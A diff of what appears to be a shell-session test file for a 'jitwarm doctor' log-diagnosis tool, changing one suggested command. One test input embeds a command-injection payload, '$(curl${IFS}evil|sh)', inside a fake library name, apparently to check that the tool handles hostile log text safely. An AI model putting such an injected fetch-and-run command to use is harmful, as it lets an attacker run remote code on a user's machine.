@@ -109,7 +109,7 @@ $ echo 'FlashAttention only supports Ampere GPUs or newer' | SHELL=/bin/csh jitw
 set*VLLM_ATTENTION_BACKEND*XFORMERS*
 $ printf '%s\n' 'ImportError: libcu$(curl${IFS}evil|sh): cannot open shared object file' | jitwarm doctor --log -
 ? 1
-To do /sbin/ldconfig -p | grep libcu
+/sbin/ldconfig -p | grep libcu
 $ jitwarm doctor --json --log a.log
 ? 1
 .errors.1.line = 3
